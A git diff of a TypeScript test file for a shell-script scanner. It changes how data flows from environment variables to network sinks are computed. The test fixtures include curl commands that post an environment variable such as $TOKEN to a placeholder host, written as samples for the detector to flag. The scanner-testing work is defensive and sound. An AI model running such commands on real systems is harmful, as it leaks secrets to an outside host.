@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { Fact } from '../../../scanner/fact.ts';
+import { solveFlows } from '../../../scanner/flow.ts';
 import { analyseShell } from '../../../scanner/frontends/shell.ts';
 import type { Source } from '../../../scanner/source.ts';
 import { Steps, StepsUsedUp } from '../../../scanner/steps.ts';
@@ -20,13 +21,10 @@ function capabilities(facts: readonly Fact[]): string[] {
   });
 }
 
-function flows(facts: readonly Fact[]): string[] {
-  return facts.flatMap((fact) => {
-    if (fact.kind !== 'flow') return [];
+function flows({ graph }: ReturnType<typeof analyseShell>): string[] {
+  return (graph === undefined ? [] : solveFlows(graph, new Steps())).map((fact) => {
     const to = fact.sink.capability?.kind === 'egress' ? ` ${fact.sink.capability.url}` : '';
-    return [
-      `${fact.source.what} ${fact.source.name} -> ${fact.sink.what} ${fact.sink.part}${to}${fact.encoded ? ' encoded' : ''}`,
-    ];
+    return `${fact.source.what} ${fact.source.name} -> ${fact.sink.what} ${fact.sink.part}${to}${fact.encoded ? ' encoded' : ''}`;
   });
 }
 
@@ -116,7 +114,7 @@ describe('what flows into the network', () => {
     ['a name in a name', `\${!n}; curl -d "\${!n}" https://a.example/`, 'env * -> network body https://a.example/'],
     ['by a function', 'f() { curl -d "$1" https://a.example/; }\nf "$TOKEN"', 'env TOKEN -> network body https://a.example/'],
   ])('%s', (_, script, expected) => {
-    expect(flows(analyse(script).facts)).toContain(expected);
+    expect(flows(analyse(script))).toContain(expected);
   });
 });
 
